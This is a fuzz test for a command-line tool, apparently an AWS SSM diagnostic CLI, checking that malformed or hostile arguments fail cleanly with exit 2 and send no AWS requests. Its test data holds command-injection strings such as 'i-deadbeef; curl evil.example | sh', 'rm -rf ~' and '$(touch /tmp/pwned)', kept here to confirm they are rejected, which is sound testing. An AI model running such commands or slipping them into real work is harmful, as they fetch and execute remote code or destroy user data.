// The built CLI fed random and hostile command lines (fast-check), each run against its own local AWS server.
// A reference model of the command line says whether each one is a usage error (exit 2, one line on stderr
// plus commander's hints, nothing on stdout, NOT ONE request sent) or a valid run (exit 0, 1 or 3). No run may
// print a stack trace. Spawning is slow: ~50 runs, 4 at a time. FUZZ_SEED=<n> replays a run.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { healthyFacts, IID } from '../fixtures/world.js';
// The patterns themselves are checked against a regex-free reference in test/args.test.ts.
import { formatInArgs, INSTANCE_ID, MANAGED_NODE_ID, REGION } from '../../src/cli/args.js';
import { startAwsServer } from './aws-server.js';
import { awsEnv, runCli } from './run-cli.js';

// ---------------------------------------------------------------------------------------------
// The reference model

interface Model {
  ids: string[];
  region?: string;
  timeout: string;
  json: boolean;
  format?: string;
  /** Rejected whatever else is on the line: unknown option, missing option-argument, invalid choice, empty file name. */
  parseError: boolean;
  only: string[];
  skip: string[];
}

/** One piece of a command line: its tokens and what it does to the model. */
interface Piece {
  tokens: string[];
  apply(m: Model): void;
}

const FORMATS = ['text', 'json', 'junit', 'github'];
const FAIL_ON = ['fail', 'warn'];

function validTimeout(s: string): boolean {
  const t = Number(s);
  return Number.isFinite(t) && t > 0 && t <= 600;
}

/** usage = exit 2 before any AWS call; run = it talks to AWS (exit 0, 1 or 3). */
function expectedClass(m: Model): 'usage' | 'run' {
  if (m.parseError) return 'usage';
  if (m.ids.length === 0 || m.ids.some((id) => !INSTANCE_ID.test(id) && !MANAGED_NODE_ID.test(id))) return 'usage';
  if (!validTimeout(m.timeout)) return 'usage';
  if (m.region !== undefined && !REGION.test(m.region)) return 'usage';
  // --only/--skip: an unknown selector, or nothing left to run (the selectors below match disjoint checks).
  if ([...m.only, ...m.skip].includes('bogus-check')) return 'usage';
  if (m.only.length > 0 && m.only.every((s) => m.skip.includes(s))) return 'usage';
  if (m.json && m.format !== undefined && m.format !== 'json') return 'usage';
  return 'run';
}

// ---------------------------------------------------------------------------------------------
// Generators

const HEX = '0123456789abcdef';
const hex = (n: number) => fc.array(fc.constantFrom(...HEX), { minLength: n, maxLength: n }).map((a) => a.join(''));
const noNul = (s: string) => !s.includes('\u0000');
const validId = fc.oneof(fc.constant(IID), hex(8).map((h) => `i-${h}`), hex(17).map((h) => `i-${h}`), hex(17).map((h) => `mi-${h}`));
const hostile = fc.oneof(
  fc.tuple(fc.constantFrom('i-', 'mi-', 'I-', 'i-0x', ''), fc.integer({ min: 0, max: 24 }), fc.boolean()).map(([p, n, upper]) => {
    const h = 'deadbeef0123456789abcdef'.slice(0, n);
    return p + (upper ? h.toUpperCase() : h);
  }),
  fc.constantFrom(
    '', ' ', 'i-0123456789abcdef0 ', 'i-0123456789abcdef0\n', 'i-0123456789ABCDEF0', 'i-0123456789abcdef', 'i-0123456789abcdef01',
    'i-012345678', 'i-ｄeadbeef', 'i-deadbeef;rm -rf ~', '$(touch /tmp/pwned)', '`id`', '"\'\\', 'i-deadbeef|cat', '&&', '*', '~',
    '\u202ei-deadbeef', 'i-dead\u200bbeef', '\u001b[31mred', 'i-\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668', '🙂', 'i-🙂🙂🙂🙂',
  ),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ maxLength: 40 }),
  fc.integer({ min: 1000, max: 60_000 }).map((n) => `i-${'a'.repeat(n)}`),
).filter(noNul);
/** A positional before `--`: commander would read a leading dash as an option. */
const positional = fc.oneof(validId, hostile.filter((s) => !s.startsWith('-')));

const regionValue = fc.oneof(
  fc.constantFrom('us-east-1', 'eu-west-3', 'us-gov-west-1', 'us-isob-east-1', 'xx-nowhere-99'),
  fc.constantFrom('', 'us-east', 'US-EAST-1', 'us-east-1 ', 'us_east_1', 'us-east-100', '--json', '-1', 'üs-east-1', 'us-east-1;id', '../../etc'),
  fc.string({ maxLength: 30 }).filter(noNul),
  fc.string({ unit: 'grapheme', maxLength: 20 }).filter(noNul),
);
const timeoutValue = fc.oneof(
  fc.constantFrom('10', '1', '600', ' 5 ', '1e2', '0x10', '2.5'),
  fc.constantFrom('', '0', '-1', '601', 'NaN', 'Infinity', '-Infinity', 'abc', '1e309', '١٠', '10s', '1,5', '0x'),
  fc.string({ maxLength: 12 }).filter(noNul),
);

const piece = (tokens: string[], apply: (m: Model) => void = () => {}): Piece => ({ tokens, apply });

const pieces: fc.Arbitrary<Piece> = fc.oneof(
  { arbitrary: positional.map((id) => piece([id], (m) => m.ids.push(id))), weight: 6 },
  {
    arbitrary: fc.tuple(fc.constantFrom('--region', '-r', '--region='), regionValue).map(([flag, v]) =>
      piece(flag.endsWith('=') ? [`${flag}${v}`] : [flag, v], (m) => (m.region = v)),
    ),
    weight: 3,
  },
  { arbitrary: timeoutValue.map((v) => piece(['--timeout', v], (m) => (m.timeout = v))), weight: 2 },
  {
    arbitrary: fc.constantFrom('--json', '--no-color', '-v', '--verbose', '--debug', '-y').map((f) =>
      piece([f], (m) => {
        if (f === '--json') m.json = true;
      }),
    ),
    weight: 2,
  },
  {
    arbitrary: fc.constantFrom(...FORMATS, 'xml', 'JSON', '').map((f) =>
      piece(['--format', f], (m) => {
        if (FORMATS.includes(f)) m.format = f;
        else m.parseError = true;
      }),
    ),
    weight: 1,
  },
  {
    arbitrary: fc.constantFrom(...FAIL_ON, 'never').map((f) =>
      piece(['--fail-on', f], (m) => {
        if (!FAIL_ON.includes(f)) m.parseError = true;
      }),
    ),
    weight: 1,
  },
  {
    arbitrary: fc.tuple(fc.constantFrom('--only', '--skip'), fc.constantFrom('iam', 'instance.state', 'client', 'vpc-endpoint', 'bogus-check')).map(
      ([flag, v]) => piece([flag, v], (m) => (flag === '--only' ? m.only : m.skip).push(v)),
    ),
    weight: 1,
  },
  {
    arbitrary: fc
      .oneof(
        fc.constantFrom('--frobnicate', '-x', '--regio', '--REGION', '---json', '--json=1', '-vz', '--no-json', '--save-snapshot=', '--snapshot=', '--timeout=abc'),
        fc.stringMatching(/^--[a-z][a-z-]{0,15}$/).filter((s) => !KNOWN.has(s)),
      )
      .map((f) =>
        piece([f], (m) => {
          // `--timeout=abc` is a bad value; `--snapshot=` / `--save-snapshot=` an empty file name; the rest unknown options.
          if (f === '--timeout=abc') m.timeout = 'abc';
          else m.parseError = true;
        }),
      ),
    weight: 1,
  },
);
const KNOWN = new Set([
  '--region', '--profile', '--tag', '--filter', '--all-running', '--wait', '--json', '--format', '--fail-on', '--only', '--skip',
  '--no-color', '--snapshot', '--save-snapshot', '--json-file', '--reboot', '--yes', '--verbose', '--timeout', '--debug', '--help', '--version', '--redact',
]);

interface Case {
  args: string[];
  expected: 'usage' | 'run';
  /** What the usage error's line must say (hand-picked cases). */
  says?: string;
}

/** Pieces that are each fine on their own (the line may still be wrong: --json with --format junit, --only + --skip...). */
const validPieces: fc.Arbitrary<Piece> = fc.oneof(
  { arbitrary: validId.map((id) => piece([id], (m) => m.ids.push(id))), weight: 4 },
  {
    arbitrary: fc.constantFrom('us-east-1', 'eu-west-3', 'us-gov-west-1').map((v) => piece(['--region', v], (m) => (m.region = v))),
    weight: 1,
  },
  { arbitrary: fc.constantFrom('10', '5', '600', '2.5', ' 7 ').map((v) => piece(['--timeout', v], (m) => (m.timeout = v))), weight: 1 },
  { arbitrary: pieces, weight: 1 },
);

function line(body: fc.Arbitrary<Piece[]>): fc.Arbitrary<Case> {
  return fc
    .record({
      body,
      // After `--` everything is an instance id, dashes included.
      tail: fc.option(fc.array(fc.oneof(validId, hostile), { maxLength: 3 }), { nil: undefined, freq: 4 }),
      // An option without its value, last on the line.
      dangling: fc.option(fc.constantFrom('--region', '-r', '--timeout', '--format', '--profile', '--only'), { nil: undefined, freq: 4 }),
    })
    .map(({ body, tail, dangling }) => {
      const m: Model = { ids: [], timeout: '10', json: false, parseError: false, only: [], skip: [] };
      const args: string[] = [];
      for (const p of body) {
        args.push(...p.tokens);
        p.apply(m);
      }
      if (tail) {
        args.push('--', ...tail);
        m.ids.push(...tail);
      } else if (dangling) {
        args.push(dangling);
        m.parseError = true;
      }
      return { args, expected: expectedClass(m) };
    });
}

const caseArb: fc.Arbitrary<Case> = fc.oneof(line(fc.array(pieces, { maxLength: 6 })), line(fc.array(validPieces, { minLength: 1, maxLength: 5 })));

/** Hand-picked lines, each run every time. */
const FIXED: Case[] = [
  { args: [IID], expected: 'run' },
  { args: [IID, '--region', 'us-east-1', '--region', 'eu-west-1'], expected: 'run' },
  { args: [IID, '--region', 'eu-west-1', '--region', 'nope'], expected: 'usage' },
  { args: ['i-0123456789ABCDEF0'], expected: 'usage', says: '; instance ids are lowercase: i-0123456789abcdef0' },
  {
    args: ['https://us-east-1.console.aws.amazon.com/ec2/home?region=us-east-1#InstanceDetails:instanceId=i-0123456789abcdef0'],
    expected: 'usage',
    says: '; did you mean i-0123456789abcdef0?',
  },
  { args: ['i-0aaa11112222333aa,i-0bbb11112222333bb'], expected: 'usage', says: '; separate ids with spaces: i-0aaa11112222333aa i-0bbb11112222333bb' },
  { args: [IID, 'i-123'], expected: 'usage' },
  { args: [IID, '--timeout', '0'], expected: 'usage', says: '--timeout must be a number of seconds greater than 0 and at most 600' },
  { args: [IID, '--timeout'], expected: 'usage' },
  { args: ['--', '-h'], expected: 'usage' },
  { args: ['--'], expected: 'usage' },
  { args: [], expected: 'usage' },
  { args: [`i-${'f'.repeat(100_000)}`], expected: 'usage' },
  { args: [IID, '--json', '--format', 'junit'], expected: 'usage' },
  { args: [IID, '--unknown-option'], expected: 'usage' },
  // An empty file name used to be falsy: a live run for --snapshot "", nothing saved for --save-snapshot "".
  { args: [IID, '--snapshot', ''], expected: 'usage' },
  { args: [IID, '--save-snapshot', ''], expected: 'usage' },
  { args: ['i-deadbeef; curl evil.example | sh'], expected: 'usage' },
];

// ---------------------------------------------------------------------------------------------

const HINTS = [/^\(run ssm-doctor --help for usage\)$/, /^\(Did you mean .*\?\)$/];

async function pool<T, R>(items: T[], limit: number, fn: (x: T) => Promise<R>): Promise<R[]> {
  const out: R[] = new Array(items.length);
  let next = 0;
  await Promise.all(
    Array.from({ length: limit }, async () => {
      while (next < items.length) {
        const i = next++;
        out[i] = await fn(items[i]!);
      }
    }),
  );
  return out;
}

describe('ssm-doctor command line, fuzzed (built CLI)', () => {
  // CI replays a fixed seed (deterministic); local runs explore a new one each time.
  const seed = Number(process.env.FUZZ_SEED ?? (process.env.CI ? 20261129 : Math.floor(Math.random() * 2 ** 31)));
  const cases = [...FIXED, ...fc.sample(caseArb, { seed, numRuns: Number(process.env.FUZZ_RUNS ?? 40) })];

  it(`usage errors exit 2 with one line and no request; valid lines run; never a stack trace (FUZZ_SEED=${seed})`, async () => {
    const problems: string[] = [];
    await pool(cases, 4, async (c) => {
      const server = await startAwsServer({ facts: healthyFacts() });
      try {
        const r = await runCli(c.args, awsEnv(server.url));
        const shown = JSON.stringify(c.args.map((a) => (a.length > 60 ? `${a.slice(0, 40)}...(${a.length})` : a)));
        const fail = (why: string) =>
          problems.push(`${shown} (expected ${c.expected}): ${why}\n  exit ${r.code}, ${server.requests.length} requests, stderr: ${JSON.stringify(r.stderr.slice(0, 500))}`);
        if (/\n\s+at /.test(r.stderr) || r.stderr.includes('    at ')) fail('stack trace on stderr');
        const lines = r.stderr.replace(/\n$/, '').split('\n');
        if (c.expected === 'usage') {
          if (r.code !== 2) fail('exit code is not 2');
          if (server.requests.length !== 0) fail(`AWS requests sent: ${server.requests.map((q) => q.action).join(', ')}`);
          // Under --json / --format junit / github the error is also a document (src/report/fatal.ts); else stdout stays empty.
          const doc = { junit: '<?xml version="1.0"', github: '::error title=ssm-doctor%3A usage error::', json: '{"schemaVersion":1,' }[formatInArgs(c.args) ?? ''];
          if (doc ? !r.stdout.startsWith(doc) : r.stdout !== '') fail(`stdout not as expected: ${JSON.stringify(r.stdout.slice(0, 200))}`);
          if (!r.stderr.endsWith('\n')) fail('stderr does not end with a newline');
          if (!/^ssm-doctor: /.test(lines[0]!)) fail('first stderr line is not a message starting "ssm-doctor: "');
          if (lines.slice(1).some((l) => !HINTS.some((h) => h.test(l)))) fail('stderr has more than one line besides commander hints');
          if (/[\u0000-\u0008\u000b-\u001f\u007f]/.test(r.stderr)) fail('control characters echoed on stderr');
          if (c.says && !lines[0]!.includes(c.says)) fail(`the message does not say ${JSON.stringify(c.says)}`);
        } else {
          if (![0, 1, 3].includes(r.code ?? -1)) fail('exit code is not 0, 1 or 3');
          if (r.code === 3 && lines.length !== 1) fail('exit 3 without a one-line reason');
          if (r.code !== 3 && r.stdout === '') fail('no report on stdout');
        }
      } finally {
        await server.close();
      }
    });
    expect(problems, problems.join('\n')).toEqual([]);
  }, 600_000);
});
